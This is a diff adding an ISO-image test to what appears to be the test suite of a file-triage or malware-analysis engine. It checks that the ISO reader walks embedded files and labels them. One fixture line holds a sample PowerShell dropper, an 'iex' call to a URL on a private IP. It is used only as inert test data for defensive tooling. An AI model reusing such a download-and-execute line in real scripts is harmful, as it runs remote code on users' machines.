@@ -457,3 +457,26 @@ class TestPyInstaller:
         evil = next(json.loads(o) for _, p, o in result.triples
                     if p == "file" and json.loads(o)["name"] == "evil.py")
         assert evil["sha256"] == hashlib.sha256(script).hexdigest()
+
+
+class TestISO:
+    def test_image_walk(self):
+        from kgmwcp.engine import iso9660
+
+        ps1 = b"iex 'http://10.5.5.5/iso-drop'"
+        image = iso9660.build_iso({"run.ps1": ps1, "readme.txt": b"hello iso"})
+        assert iso9660.is_iso(image)
+
+        # reader roundtrip
+        files = {name: data for _, name, data in iso9660.IsoReader(image).walk()}
+        assert files == {"RUN.PS1": ps1, "README.TXT": b"hello iso"}
+
+        result = run(image, name="image.iso")
+        assert result.files[0].description == "ISO Image File"
+        file_rows = [json.loads(o) for _, p, o in result.triples if p == "file"]
+        assert sorted(f["name"] for f in file_rows) == ["README.TXT", "RUN.PS1"]
+        # .PS1 extension (case) — PowerShell identify is endswith(".ps1"),
+        # so the upper-cased ISO identifier is NOT identified; parity with
+        # the reference's case-sensitive name predicate (PowerShell.py:39-41)
+        descs = {f["name"]: f["description"] for f in file_rows}
+        assert descs["RUN.PS1"] == "Unidentified file"
